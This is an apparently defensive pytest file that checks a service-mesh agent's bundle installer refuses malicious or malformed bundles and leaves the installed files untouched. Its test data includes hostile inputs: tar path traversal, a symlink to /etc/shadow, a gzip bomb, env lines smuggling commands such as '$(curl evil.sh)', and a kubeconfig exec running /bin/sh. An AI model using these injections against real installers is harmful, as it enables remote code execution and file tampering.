"""A corpus of bad bundles: each is refused with its own message, and the installed tree is unchanged
byte for byte. Every case goes the whole way an operator's bundle goes: source -> parse -> install."""

from __future__ import annotations

import hashlib
import io
import os
import tarfile
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from agent.bundle.model import BundleError, parse_bundle
from agent.bundle.source import MAX_MEMBERS, FetchError, fetch
from agent.bundle.update import update
from devkit import bundles as kit
from devkit.roots import make_root, tree_hash

NOW = time.time()
MAX = 64 * 1024  # bundle.max_size for the corpus
USER = "nobody" if os.geteuid() == 0 else None


def member(name: str, kind: bytes = tarfile.REGTYPE, size: int = 0, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.size, info.linkname = kind, size, link
    return info


def tar_with(*extra: tarfile.TarInfo, files: dict[str, bytes] | None = None) -> bytes:
    return kit.make_tar(kit.files(NOW) if files is None else files, extra=list(extra))


def with_file(name: str, data: bytes | str | None) -> dict[str, bytes]:
    """The good bundle with one file replaced (None: removed)."""
    return kit.files(NOW, replace={name: data.encode() if isinstance(data, str) else data})


def env_with(line: str) -> dict[str, bytes]:
    return kit.files(NOW, replace={"cluster.env": (kit.CLUSTER_ENV_V4 + line + "\n").encode()})


def sums_for(files: dict[str, bytes], *, skip: str = "", tamper: str = "", add: str = "") -> dict[str, bytes]:
    lines = []
    for name, data in sorted(files.items()):
        if name == skip:
            continue
        digest = hashlib.sha256(data + (b"x" if name == tamper else b"")).hexdigest()
        lines.append(f"{digest}  {name}\n")
    if add:
        lines.append(f"{'0' * 64}  {add}\n")
    return {**files, "SHA256SUMS": "".join(lines).encode()}


def gzip_bomb() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        info = tarfile.TarInfo("cluster.env")
        info.size = MAX * 8
        tf.addfile(info, io.BytesIO(b"\0" * info.size))
    return buf.getvalue()


def probe_mesh(probe: str) -> dict[str, bytes]:
    return kit.files(NOW, replace={"mesh.yaml": f"defaultConfig:\n  readinessProbe:\n{probe}".encode()})


Case = tuple[str, Callable[[], tuple[str, object]], str]  # id, builder -> (kind, payload), expected text

CASES: list[Case] = [
    # archive safety: refused before anything is read out of the archive
    ("path-traversal", lambda: ("tar", tar_with(member("../cluster.env", size=3))), "path with '..'"),
    ("absolute-path", lambda: ("tar", tar_with(member("/etc/cron.d/x", size=3))), "absolute path"),
    ("symlink-member", lambda: ("tar", tar_with(member("hosts", tarfile.SYMTYPE, link="/etc/shadow"),
                                                files=with_file("hosts", None))),
     "a symbolic link to '/etc/shadow'"),
    ("hardlink-member", lambda: ("tar", tar_with(member("kubeconfig", tarfile.LNKTYPE, link="istio-token"))),
     "a hard link to 'istio-token'"),
    ("char-device", lambda: ("tar", tar_with(member("sidecar.yaml", tarfile.CHRTYPE))), "a character device"),
    ("block-device", lambda: ("tar", tar_with(member("sidecar.yaml", tarfile.BLKTYPE))), "a block device"),
    ("fifo", lambda: ("tar", tar_with(member("sidecar.yaml", tarfile.FIFOTYPE))), "a FIFO"),
    ("oversize-member", lambda: ("tar", tar_with(member("kubeconfig", size=MAX + 1))),
     f"{MAX + 1} bytes, larger than bundle.max_size"),
    ("too-many-members", lambda: ("tar", tar_with(*[member(f"x{i}", size=1) for i in range(MAX_MEMBERS)])),
     f"more than {MAX_MEMBERS} members"),
    ("unknown-member", lambda: ("tar", tar_with(member("install.sh", size=4))), "install.sh: unknown file"),
    ("nested-member", lambda: ("tar", tar_with(member("etc/cluster.env", size=4))),
     "etc/cluster.env: unknown"),
    ("directory-member", lambda: ("tar", tar_with(member("certs", tarfile.DIRTYPE))), "unexpected directory"),
    ("duplicate-member", lambda: ("tar", tar_with(member("./cluster.env", size=4))), "appears twice"),
    ("not-gzip", lambda: ("tar", b"PK\x03\x04 a zip file"), "not a .tar.gz"),
    ("gzip-bomb", lambda: ("tar", gzip_bomb()), "unpacks to more than"),
    ("truncated-gzip", lambda: ("tar", kit.make_tar(kit.files(NOW))[:-40]), "truncated gzip data"),
    ("oversize-archive", lambda: ("tar", kit.make_tar(with_file("kubeconfig", os.urandom(MAX)))),
     "is larger than bundle.max_size"),
    # directory sources
    ("dir-symlink", lambda: ("dir-link", kit.files(NOW)), "hosts: a symbolic link"),
    ("dir-oversize", lambda: ("dir", kit.files(NOW, replace={"kubeconfig": b"k" * (MAX + 1)})),
     "the bundle is larger than bundle.max_size"),
    ("dir-unknown-file", lambda: ("dir", kit.files(NOW, replace={"README": b"hi"})), "README: unknown file"),
    # contents
    ("missing-token", lambda: ("dir", kit.files(NOW, replace={"istio-token": None})), "istio-token: missing"),
    ("invalid-pem", lambda: ("dir", kit.files(NOW, replace={
        "root-cert.pem": b"-----BEGIN CERTIFICATE-----\nbm90IGEgY2VydA==\n-----END CERTIFICATE-----\n"})),
     "certificate 1 cannot be read"),
    ("no-pem", lambda: ("dir", kit.files(NOW, replace={"root-cert.pem": b"hello\n"})), "no PEM certificate"),
    ("private-key-in-cert", lambda: ("dir", kit.files(NOW, replace={"root-cert.pem": kit.make_cert(NOW) +
                                     b"-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n"})),
     "block 2 is a private key"),
    ("expired-cert", lambda: ("dir", with_file("root-cert.pem", kit.make_cert(NOW - 9e6, days_valid=30))),
     "certificate 1 (CN=Mesh Root CA,O=cluster.local) expired at"),
    ("expired-token", lambda: ("dir", kit.files(NOW, replace={"istio-token": kit.make_token(NOW - 7200)})),
     "the token expired at"),
    ("wrong-audience", lambda: ("dir", with_file("istio-token", kit.make_token(NOW, aud="api"))),
     "audience must include 'istio-ca', got ['api']"),
    ("token-namespace", lambda: ("dir", with_file("istio-token", kit.make_token(NOW, ns="prod"))),
     "token is for namespace 'prod'"),
    ("token-account", lambda: ("dir", with_file("istio-token", kit.make_token(NOW, sa="admin"))),
     "token is for service account 'admin'"),
    ("token-not-jwt", lambda: ("dir", kit.files(NOW, replace={"istio-token": b"s3cr3t-but-not-a-jwt"})),
     "not a JWT"),
    ("token-bad-subject", lambda: ("dir", kit.files(NOW, replace={
        "istio-token": kit.make_token(NOW, claims={"sub": "admin"})})), "subject must be"),
    ("env-malformed", lambda: ("dir", env_with("this is not an assignment")),
     "cluster.env:21: expected KEY="),
    ("env-command-substitution", lambda: ("dir", env_with("EVIL=$(curl evil.sh)")), "unquoted '$'"),
    ("env-backticks", lambda: ("dir", env_with("EVIL=`id`")), "unquoted '`'"),
    ("env-trailing-command", lambda: ("dir", env_with("EVIL=x reboot")), "text after the value"),
    ("env-duplicate", lambda: ("dir", env_with("POD_NAMESPACE=other")), "duplicate key (first on line 18)"),
    ("env-crlf", lambda: ("dir", env_with("WIN='x'\r")), "carriage return"),
    ("env-not-utf8", lambda: ("dir", kit.files(NOW, replace={
        "cluster.env": kit.CLUSTER_ENV_V4.encode() + b"X='\xff'\n"})),
     "cluster.env:21: not UTF-8"),
    ("env-autoregister-refused", lambda: ("dir-refuse", env_with("ISTIO_META_AUTO_REGISTER_GROUP=billing")),
     "made with --autoregister"),
    ("mesh-bad-yaml", lambda: ("dir", kit.files(NOW, replace={"mesh.yaml": b"defaultConfig: [unclosed\n"})),
     "mesh.yaml:2: not valid YAML"),
    ("mesh-no-default-config", lambda: ("dir", kit.files(NOW, replace={"mesh.yaml": b"meshId: x\n"})),
     "defaultConfig: expected a mapping"),
    ("probe-two-kinds", lambda: ("dir", probe_mesh("    tcpSocket: {port: 1}\n    httpGet: {port: 2}\n")),
     "needs exactly one of httpGet, tcpSocket, exec, grpc (got httpGet, tcpSocket)"),
    ("probe-bad-port", lambda: ("dir", probe_mesh("    tcpSocket: {port: 70000}\n")),
     "tcpSocket.port: must be 1..65535, got 70000"),
    ("checksum-mismatch", lambda: ("dir", sums_for(kit.files(NOW), tamper="mesh.yaml")),
     "mesh.yaml: checksum mismatch"),
    ("checksum-unlisted", lambda: ("dir", sums_for(kit.files(NOW), skip="hosts")),
     "hosts is in the bundle but not listed"),
    ("checksum-listed-missing", lambda: ("dir", sums_for(kit.files(NOW), add="kubeconfig")),
     "kubeconfig is listed but not in the bundle"),
    ("hosts-bad-address", lambda: ("dir", kit.files(NOW, replace={"hosts": b"10.0.0.256 istiod\n"})),
     "'10.0.0.256' is not an IPv4 or IPv6 address"),
    ("kubeconfig-exec", lambda: ("dir", kit.files(NOW, replace={"kubeconfig": kit.KUBECONFIG.replace(
        "    token: not-a-real-token-just-text", "    exec: {command: /bin/sh}").encode()})),
     "credential plugins are refused"),
    ("sidecar-http", lambda: ("dir", kit.files(NOW, replace={"sidecar.yaml": kit.SIDECAR_YAML.replace(
        "https://", "http://").encode()})), "url: http:// is refused"),
    ("sidecar-unquoted-sha", lambda: ("dir", kit.files(NOW, replace={"sidecar.yaml": kit.SIDECAR_YAML.replace(
        '"00000000000000000000000000000000000000000000000000000000000000ab"', "1234").encode()})),
     "sha256: expected a string, got 1234"),
    ("workloadgroup-kind", lambda: ("dir", with_file("workloadgroup.yaml", kit.WORKLOADGROUP.replace(
        "kind: WorkloadGroup", "kind: WorkloadEntry"))), "kind must be WorkloadGroup"),
    ("workloadgroup-account", lambda: ("dir", with_file("workloadgroup.yaml", kit.WORKLOADGROUP.replace(
        f"serviceAccount: {kit.SA}", "serviceAccount: x"))),
     "spec.template.serviceAccount 'x' differs"),
]


@pytest.fixture(scope="module")
def installed(tmp_path_factory: pytest.TempPathFactory):  # -> (Layout, str)
    tmp = tmp_path_factory.mktemp("installed")
    layout = make_root(tmp)
    good = kit.write_dir(tmp / "good", kit.files(NOW, extras=True))
    update(kit.config(str(good), max_size=MAX), layout, user=USER, now=NOW)
    return layout, tree_hash(layout.root)


def build_source(tmp: Path, kind: str, payload: object) -> tuple[str, dict[str, object]]:
    cfg: dict[str, object] = {"max_size": MAX}
    if kind == "tar":
        path = tmp / "bundle.tar.gz"
        path.write_bytes(payload)  # type: ignore[arg-type]
        return str(path), cfg
    d = kit.write_dir(tmp / "bundle", payload)  # type: ignore[arg-type]
    if kind == "dir-link":
        (d / "hosts").unlink()
        (d / "hosts").symlink_to("/etc/hosts")
    if kind == "dir-refuse":
        cfg["on_autoregister"] = "refuse"
    return str(d), cfg


def test_the_corpus_is_large_and_every_message_is_its_own() -> None:
    assert len(CASES) >= 30
    assert len({c[0] for c in CASES}) == len(CASES)
    assert len({c[2] for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c[0] for c in CASES])
def test_bad_bundle_is_refused_and_nothing_changes(case: Case, installed, tmp_path: Path) -> None:
    layout, before = installed
    _id, build, expected = case
    kind, payload = build()
    source, extra = build_source(tmp_path, kind, payload)
    cfg = kit.config(source, **extra)
    with pytest.raises((FetchError, BundleError)) as exc:
        update(cfg, layout, user=USER, now=NOW)
    assert expected in str(exc.value), str(exc.value)
    assert tree_hash(layout.root) == before


def test_the_good_bundle_passes_the_same_path(tmp_path: Path) -> None:
    src = kit.write_dir(tmp_path / "ok", kit.files(NOW, extras=True))
    fetched = fetch(kit.config(str(src), max_size=MAX))
    assert parse_bundle(fetched.files, NOW, kit.config()).warnings == ()
    tar = tmp_path / "ok.tar.gz"
    tar.write_bytes(kit.make_tar(kit.files(NOW), prefix="./vm/"))
    assert set(fetch(kit.config(str(tar), max_size=MAX)).files) == set(kit.files(NOW))
